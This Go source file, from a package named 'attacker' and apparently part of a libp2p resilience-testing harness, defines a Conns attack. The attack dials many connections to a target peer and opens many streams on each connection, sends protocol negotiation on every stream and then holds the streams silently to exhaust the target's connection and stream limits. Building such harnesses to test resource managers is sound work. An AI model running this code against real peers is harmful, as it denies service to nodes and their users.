package attacker

import (
	"context"
	"errors"
	"io"
	"sync"

	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/protocol"
	"github.com/libp2p/go-libp2p/p2p/net/swarm"
	"github.com/multiformats/go-varint"
)

// Conns holds n connections of one identity to a target, each with its handshake done, and on each
// so many streams, on which a protocol is asked for and nothing is said. Now counts connections and
// streams.
func Conns(t Target, n, streams int, proto protocol.ID) Attack {
	return func(ctx context.Context, p *Peer, tally *Tally) {
		again(ctx, n, tally, func(ctx context.Context) error {
			c, err := p.conn(ctx, t)
			if err != nil {
				return err
			}
			defer func() { _ = c.Close() }()
			defer context.AfterFunc(ctx, func() { _ = c.Close() })()
			defer tally.add()()
			tally.did.Add(1)
			var wg sync.WaitGroup
			defer wg.Wait()
			for range streams {
				wg.Go(func() { holdStream(ctx, c, proto, tally) })
			}
			for {
				s, err := c.AcceptStream()
				if err != nil {
					return err
				}
				_ = s.Reset()
			}
		})
	}
}

// conn is a connection beside those that there are to the same target.
func (p *Peer) conn(ctx context.Context, t Target) (network.MuxedConn, error) {
	if p.host == nil {
		return nil, ErrStranger
	}
	sw, ok := p.host.Network().(*swarm.Swarm)
	if !ok || len(t.Peer.Addrs) == 0 {
		return nil, errors.New("no address to dial")
	}
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	addr := t.Peer.Addrs[0]
	c, err := sw.TransportForDialing(addr).Dial(ctx, addr, t.Peer.ID)
	if err != nil {
		return nil, err
	}
	return c, nil
}

// holdStream returns when the stream has ended.
func holdStream(ctx context.Context, c network.MuxedConn, proto protocol.ID, tally *Tally) {
	s, err := c.OpenStream(ctx)
	if err != nil {
		return
	}
	defer func() { _ = s.Reset() }()
	for _, line := range []string{"/multistream/1.0.0", string(proto)} {
		b := append([]byte(line), '\n')
		if _, err := s.Write(append(varint.ToUvarint(uint64(len(b))), b...)); err != nil {
			return
		}
	}
	defer tally.add()()
	_, _ = io.Copy(io.Discard, s)
}
